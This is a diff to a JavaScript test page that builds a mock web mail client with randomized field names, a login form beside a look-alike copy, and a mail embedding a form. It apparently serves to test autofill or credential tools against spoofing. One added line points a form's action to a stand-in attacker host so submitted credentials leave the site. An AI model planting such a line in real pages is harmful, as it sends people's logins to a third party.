@@ -1,6 +1,6 @@
 /**
  * A web client of somebody's own: plain HTML, ids and names made anew at each load, a login form and a parked copy that look
- * the same, and a mail whose author has put such a form into it. `?twins`, `?renamed`, `?box`, `?overwrites`, `?frame`.
+ * the same, and a mail whose author has put such a form into it. `?twins`, `?renamed`, `?box`, `?overwrites`, `?frame`, `?elsewhere`.
  */
 const has = (name) => new URLSearchParams(location.search).has(name);
 const fresh = () => `f${Math.random().toString(36).slice(2, 9)}`;
@@ -29,6 +29,8 @@ const accounts = `${account('login', '登录')}
 document.getElementById('app').innerHTML =
   `<header><input type="search" placeholder="搜索邮件" data-field="search">
   <a href="/inbox">收件箱</a></header>${location.pathname === '/inbox' || has('mail') ? mail : accounts}`;
+
+if (has('elsewhere')) document.querySelector('.new').action = 'https://evil.example/take';
 
 /** What the page could notice of somebody who points, or of a form that is sent off. */
 window.noticed = [];
